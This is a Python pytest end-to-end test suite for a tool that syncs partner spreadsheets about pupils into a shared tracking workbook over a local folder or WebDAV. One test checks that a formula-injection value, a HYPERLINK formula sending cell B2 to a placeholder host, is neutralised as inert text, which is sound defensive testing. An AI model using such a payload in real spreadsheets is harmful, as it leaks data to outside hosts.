"""The sample tree of ../shared/samples gives exactly the outcomes of its README, over a
local folder and over a real WebDAV server, and a second run changes nothing."""

from __future__ import annotations

import datetime as dt
import hashlib
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import openpyxl
import pytest

from resana_sync.config import RemoteSettings, Secret, Settings
from resana_sync.devserver import serve_webdav
from resana_sync.records import Outcome
from resana_sync.runner import run_once

WORKBOOK = "Tableau de suivi partagé.xlsx"
NOW = dt.datetime(2025, 11, 20, 21, 0)


@contextmanager
def remote_for(kind: str, space: Path) -> Iterator[RemoteSettings]:
    if kind == "local":
        yield RemoteSettings(kind="local", path=space)
        return
    with serve_webdav(space, users={"coord": "pw-e2e"}) as url:
        yield RemoteSettings(kind="webdav", url=url, username="coord", password=Secret("pw-e2e"),
                             read_timeout=10, retries=1)


@pytest.fixture(params=["local", "webdav"])
def backend(request: pytest.FixtureRequest) -> str:
    return request.param


def sync(kind: str, space: Path, state_dir: Path, now: dt.datetime = NOW):
    with remote_for(kind, space) as remote:
        return run_once(Settings(remote=remote, state_dir=state_dir), now=now)


def suivi_rows(space: Path) -> list[dict[str, object]]:
    sheet = openpyxl.load_workbook(space / WORKBOOK)["Suivi"]
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    return [dict(zip(header, row)) for row in rows[1:] if any(v is not None for v in row)]


def sheet_values(space: Path, name: str) -> list[tuple]:
    return list(openpyxl.load_workbook(space / WORKBOOK)[name].iter_rows(values_only=True))


def items(cell: object) -> set[str]:
    return {part.strip() for part in str(cell).split(";")}


def by_name(rows: list[dict[str, object]], nom: str) -> dict[str, object]:
    [row] = [r for r in rows if str(r["Nom"]).upper() == nom]
    return row


def test_sample_tree_gives_the_readme_outcomes(backend: str, samples_space: Path, tmp_path: Path) -> None:
    report = sync(backend, samples_space, tmp_path / "state")

    outcomes = {f.path.split("/", 1)[1]: f.outcome for f in report.files}
    assert outcomes == {
        "AEMO/fiche AEMO.xls": Outcome.IMPORTED,
        "CMPA/fiche CMPA.xlsx": Outcome.IMPORTED,
        "Centres sociaux/export_situations.csv": Outcome.IMPORTED,
        "Collège de l'Arsenal/fiches arsenal.xlsx": Outcome.IMPORTED,
        "Collège des Remparts/Fiches novembre.xlsx": Outcome.IMPORTED,
        "Collège des Remparts/~$Fiches novembre.xlsx": Outcome.IGNORED,
        "Collège des Remparts/.~lock.Fiches novembre.xlsx#": Outcome.IGNORED,
        "MDA/.DS_Store": Outcome.IGNORED,
        "MDA/Thumbs.db": Outcome.IGNORED,
        "PJJ/Situation MARTIN Léa.ods": Outcome.IMPORTED,
    }
    assert report.situations == 7
    assert report.contributions == 9
    assert report.rejected_rows == 2
    [arsenal] = [f for f in report.files if "Arsenal" in f.path]
    assert arsenal.rejected_rows == 2

    rows = suivi_rows(samples_space)
    assert sorted(str(r["Nom"]).upper() for r in rows) == [
        "BERNARD", "DUBOIS", "FOURNIER", "GIRARD", "LEROY", "MARTIN", "MOREAU"]
    assert items(by_name(rows, "MARTIN")["Structures contributrices"]) == {"Collège des Remparts", "PJJ"}
    assert items(by_name(rows, "MOREAU")["Structures contributrices"]) == {"Centres sociaux", "AEMO"}
    assert by_name(rows, "DUBOIS")["Date de naissance"].date() == dt.date(2012, 9, 2)
    assert by_name(rows, "BERNARD")["INE"] == "0123456789K"
    assert by_name(rows, "FOURNIER")["Prénom"] == "Chloé-Anne"
    assert (by_name(rows, "MARTIN")["Nom"], by_name(rows, "MARTIN")["Prénom"]) == ("MARTIN", "Léa")  # first referral's spelling
    assert "Famille non informée" in str(by_name(rows, "LEROY")["Signalements"])
    assert "Famille non informée" in str(by_name(rows, "MOREAU")["Signalements"])
    assert "MLDS" in str(by_name(rows, "GIRARD")["Signalements"])
    assert all(r["Statut"] == "Nouvelle" for r in rows)
    assert len(sheet_values(samples_space, "Contributions")) == 1 + 9


def test_partner_texts_land_as_inert_text(backend: str, samples_space: Path, tmp_path: Path) -> None:
    sync(backend, samples_space, tmp_path / "state")
    book = openpyxl.load_workbook(samples_space / WORKBOOK)
    texts = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    texts[cell.value] = cell
    hyperlink = '=HYPERLINK("http://example.invalid/?x="&B2,"voir")'
    assert hyperlink in texts and texts[hyperlink].quotePrefix
    assert "-Relance de la famille" in texts and texts["-Relance de la famille"].quotePrefix
    assert "@Coordination" in texts
    assert "Suivi CMPA interrompu en juin." in texts  # vertical tab removed, nothing else changed


def test_each_partner_gets_a_report_of_its_own_files_only(backend: str, samples_space: Path, tmp_path: Path) -> None:
    sync(backend, samples_space, tmp_path / "state")
    inboxes = samples_space / "Dépôts"
    for folder in inboxes.iterdir():
        returns = folder / "Retours"
        if folder.name == "MDA":  # only artefacts: nothing to tell that partner
            assert not returns.exists()
            continue
        [report] = list(returns.iterdir())
        text = report.read_text(encoding="utf-8")
        own = [p.name for p in folder.iterdir() if p.is_file() and not p.name.startswith(("~$", ".~lock"))]
        for name in own:
            assert name in text
        for other in inboxes.iterdir():
            if other != folder:
                for path in other.iterdir():
                    if path.is_file() and not path.name.startswith((".", "~", "Thumbs")):
                        assert path.name not in text, f"{other.name}'s file shown to {folder.name}"
    arsenal = next((inboxes / "Collège de l'Arsenal" / "Retours").iterdir()).read_text(encoding="utf-8")
    assert "Nom" in arsenal and "31/02/2011" in arsenal


def test_a_second_run_changes_nothing(backend: str, samples_space: Path, tmp_path: Path) -> None:
    sync(backend, samples_space, tmp_path / "state")
    before = {n: sheet_values(samples_space, n) for n in ("Suivi", "Contributions", "Journal")}
    digest = hashlib.sha256((samples_space / WORKBOOK).read_bytes()).hexdigest()
    archives = sorted((samples_space / "Archives").iterdir()) if (samples_space / "Archives").exists() else []

    report = sync(backend, samples_space, tmp_path / "state", now=NOW + dt.timedelta(days=1))

    assert not report.workbook_changed and not report.pushed
    assert report.reports_written == []  # nothing new to tell partners: reports untouched
    assert {n: sheet_values(samples_space, n) for n in before} == before
    assert hashlib.sha256((samples_space / WORKBOOK).read_bytes()).hexdigest() == digest
    assert (sorted((samples_space / "Archives").iterdir()) if archives else []) == archives
    assert report.count(Outcome.UNCHANGED) == 6


def test_an_edited_form_updates_its_contribution(backend: str, samples_space: Path, tmp_path: Path) -> None:
    sync(backend, samples_space, tmp_path / "state")
    csv = samples_space / "Dépôts" / "Centres sociaux" / "export_situations.csv"
    csv.write_bytes(csv.read_bytes().replace(b"Ne vient plus", b"Ne vient toujours plus"))

    report = sync(backend, samples_space, tmp_path / "state", now=NOW + dt.timedelta(days=1))

    [updated] = [f for f in report.files if f.outcome is Outcome.UPDATED]
    assert updated.path.endswith("export_situations.csv")
    assert report.contributions == 9
    texts = [v for row in sheet_values(samples_space, "Contributions") for v in row if isinstance(v, str)]
    assert "Ne vient toujours plus à l'aide aux devoirs." in texts
    assert "Ne vient plus à l'aide aux devoirs." not in texts
    assert len(list((samples_space / "Archives").iterdir())) == 1


def test_rejected_rows_are_not_shared_in_the_workbook(backend: str, samples_space: Path, tmp_path: Path) -> None:
    sync(backend, samples_space, tmp_path / "state")
    book = openpyxl.load_workbook(samples_space / WORKBOOK)
    shared = " ".join(str(v) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for v in row)
    for rejected in ("ROUSSEAU", "Lina", "31/02/2011", "Tom"):
        assert rejected not in shared
